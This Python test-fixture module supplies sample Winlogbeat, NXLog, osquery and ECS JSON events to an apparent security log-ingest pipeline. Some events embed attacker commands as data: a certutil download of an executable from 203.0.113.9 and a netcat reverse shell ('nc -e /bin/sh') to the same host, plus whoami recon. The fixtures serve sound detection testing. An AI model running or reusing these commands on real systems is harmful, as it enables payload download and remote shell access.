"""Small realistic JSON documents as the agents send them, shared by the ingest tests: Winlogbeat (8.x strings and
7.x numbers), NXLog im_msvistalog ``to_json()`` (its field names and types), osquery results (event and snapshot
format), and a plain ECS document; plus an EVTX record converted the way Winlogbeat 7 would ship it."""

from __future__ import annotations

import json

WINLOGBEAT_4688 = {
    "@timestamp": "2024-05-02T02:14:07.512Z",
    "agent": {"type": "winlogbeat", "version": "8.13.2", "name": "PC-KT-07"},
    "ecs": {"version": "8.0.0"},
    "host": {"name": "pc-kt-07.sokhdt.local", "os": {"family": "windows"}},
    "log": {"level": "information"},
    "message": "A new process has been created.",
    "event": {"code": "4688", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing",
              "action": "Process Creation", "outcome": "success", "created": "2024-05-02T02:14:08.001Z"},
    "winlog": {"channel": "Security", "event_id": "4688", "computer_name": "PC-KT-07.sokhdt.local",
               "provider_name": "Microsoft-Windows-Security-Auditing", "record_id": "884301", "api": "wineventlog",
               "keywords": ["Audit Success"], "opcode": "Info", "task": "Process Creation",
               "process": {"pid": 4, "thread": {"id": 3416}},
               "event_data": {"SubjectUserName": "nguyenvana", "SubjectDomainName": "SOKHDT",
                              "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
                              "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
                              "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
                              "NewProcessId": "0x1a2c", "TokenElevationType": "%%1936"}},
}
# Winlogbeat 7.x sent the ids as numbers.
WINLOGBEAT7_4625 = {
    "@timestamp": "2024-05-02T02:15:00.000Z",
    "event": {"code": 4625, "kind": "event", "provider": "Microsoft-Windows-Security-Auditing"},
    "winlog": {"channel": "Security", "event_id": 4625, "record_id": 884302, "computer_name": "PC-KT-07",
               "provider_name": "Microsoft-Windows-Security-Auditing",
               "event_data": {"TargetUserName": "administrator", "LogonType": "3", "IpAddress": "203.0.113.45",
                              "IpPort": "0", "SubStatus": "0xc000006a"}},
}


def nxlog_4625(n: int, address: str = "203.0.113.45") -> dict:
    """A failed network logon as NXLog im_msvistalog sends it with to_json()."""
    return {
        "EventTime": f"2024-05-02 09:14:{n:02d}", "Hostname": "PC-KT-07.sokhdt.local",
        "Keywords": -9218868437227405312, "EventType": "AUDIT_FAILURE", "SeverityValue": 4, "Severity": "ERROR",
        "EventID": 4625, "SourceName": "Microsoft-Windows-Security-Auditing",
        "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Version": 0, "Task": 12544, "OpcodeValue": 0,
        "RecordNumber": 884213 + n, "ProcessID": 712, "ThreadID": 3416, "Channel": "Security",
        "Message": "An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0",
        "Category": "Logon", "Opcode": "Info", "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-",
        "SubjectDomainName": "-", "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0",
        "TargetUserName": "administrator", "TargetDomainName": "PC-KT-07", "Status": "0xc000006d",
        "FailureReason": "%%2313", "SubStatus": "0xc000006a", "LogonType": "3", "LogonProcessName": "NtLmSsp ",
        "AuthenticationPackageName": "NTLM", "WorkstationName": "KALI", "TransmittedServices": "-",
        "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": address,
        "IpPort": "0", "EventReceivedTime": f"2024-05-02 09:14:{n:02d}", "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
    }


NXLOG_4688 = {
    "EventTime": "2024-05-02 09:20:00", "Hostname": "PC-KT-07.sokhdt.local", "Keywords": -9214364837600034816,
    "EventType": "AUDIT_SUCCESS", "SeverityValue": 2, "Severity": "INFO", "EventID": 4688,
    "SourceName": "Microsoft-Windows-Security-Auditing", "Task": 13312, "RecordNumber": 884400, "ProcessID": 4,
    "ThreadID": 88, "Channel": "Security", "Message": "A new process has been created.",
    "Category": "Process Creation", "Opcode": "Info", "SubjectUserName": "nguyenvana", "SubjectDomainName": "SOKHDT",
    "NewProcessId": "0x1a2c", "NewProcessName": "C:\\Windows\\System32\\whoami.exe", "TokenElevationType": "%%1936",
    "ProcessId": "0x12f0", "CommandLine": "whoami /all", "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
    "EventReceivedTime": "2024-05-02 09:20:01", "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog",
}
OSQUERY_EVENT = {
    "name": "pack_incident-response_process_events", "hostIdentifier": "so-tttt-web-01",
    "calendarTime": "Thu May  2 02:30:00 2024 UTC", "unixTime": 1714617000, "epoch": 0, "counter": 12,
    "numerics": False, "decorations": {"host_uuid": "4C4C4544-0044-3010-8052-B4C04F4E4C32", "username": "root"},
    "columns": {"pid": "31337", "parent": "1022", "path": "/usr/bin/nc", "cmdline": "nc -e /bin/sh 203.0.113.9 4444",
                "uid": "33", "username": "www-data"},
    "action": "added",
}
OSQUERY_SNAPSHOT = {
    "snapshot": [{"name": "sshd", "port": "22", "address": "0.0.0.0"}, {"name": "nginx", "port": "443",
                                                                       "address": "0.0.0.0"}],
    "action": "snapshot", "name": "pack_it_listening_ports", "hostIdentifier": "so-tttt-web-01",
    "calendarTime": "Thu May  2 02:31:00 2024 UTC", "unixTime": 1714617060, "epoch": 0, "counter": 0,
    "numerics": False,
}


def ecs_doc(marker: str, claim: str | None = None) -> dict:
    doc = {"@timestamp": "2024-05-02T02:40:00.000+07:00", "message": f"custom app event {marker}",
           "event": {"dataset": "custom.app", "kind": "event"}, "host": {"name": "app-01"},
           "soc": {"asset": {"criticality": "critical"}}}
    if claim:
        doc["organization"] = {"id": claim, "name": "claimed"}
    return doc


def line(doc: dict) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode("utf-8")


def _text(value):
    if isinstance(value, dict):
        return value.get("#text")
    return value


def winlogbeat7_from_evtx(record: dict) -> dict:
    """An EVTX record (as the evtx package gives it) shaped the way Winlogbeat 7 ships it: numeric event and record
    ids, event data as strings, UserData under ``winlog.user_data`` with ``xml_name``, ECS host/agent/log fields.
    Written here independently of collectors/sources/evtx.py, so the comparison means something."""
    event = record["Event"]
    system = event["System"]
    data = {}
    for key, value in (event.get("EventData") or {}).items():
        if key == "#attributes" or value is None:
            continue
        value = _text(value)
        if value is not None:
            data[key] = [str(v) for v in value] if isinstance(value, list) else str(value)
    out_winlog = {
        "channel": _text(system["Channel"]), "event_id": int(_text(system["EventID"])),
        "record_id": int(_text(system["EventRecordID"])), "computer_name": _text(system["Computer"]),
        "provider_name": system["Provider"]["#attributes"]["Name"], "api": "wineventlog",
        "event_data": data,
    }
    user_data = event.get("UserData")
    if isinstance(user_data, dict):
        (xml_name, inner), = [(k, v) for k, v in user_data.items() if k != "#attributes"]
        out_winlog["user_data"] = {"xml_name": xml_name, **{k: str(_text(v)) for k, v in inner.items()
                                                            if k != "#attributes" and _text(v) is not None}}
    if not data:
        del out_winlog["event_data"]
    created = system["TimeCreated"]["#attributes"]["SystemTime"]
    return {"@timestamp": created, "agent": {"type": "winlogbeat", "version": "7.17.9"},
            "host": {"name": _text(system["Computer"]).lower()}, "log": {"level": "information"},
            "event": {"code": int(_text(system["EventID"])), "kind": "event",
                      "provider": system["Provider"]["#attributes"]["Name"], "created": created},
            "winlog": out_winlog}
